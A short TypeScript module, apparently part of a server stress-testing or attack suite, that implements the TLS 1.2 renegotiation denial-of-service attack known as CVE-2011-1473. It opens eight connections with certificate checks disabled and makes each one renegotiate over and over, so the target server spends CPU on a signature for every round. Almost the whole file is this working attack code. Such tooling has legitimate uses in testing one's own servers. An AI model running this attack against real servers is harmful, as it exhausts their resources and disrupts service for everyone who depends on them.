// Renegotiations of TLS 1.2, which cost a signature each.

import { TLSSocket } from 'node:tls'
import type { Attack } from '../attack.ts'
import { attackConnections } from '../wire/connections.ts'

export const attack: Attack = {
  reference: 'CVE-2011-1473',
  does: 'asks for renegotiations',
  who: ['known', 'unknown'],
  answers: [],
  run: (target, signal) => {
    const tls = { maxVersion: 'TLSv1.2' } as const
    return attackConnections(target, signal, { connections: 8, alpn: 'h2', tls }, (wire) => {
      const again = (): void => {
        if (wire.socket.destroyed || !(wire.socket instanceof TLSSocket)) return
        wire.socket.renegotiate({ rejectUnauthorized: false }, (error) => (error === null ? again() : wire.close()))
      }
      again()
      return {}
    })
  },
}
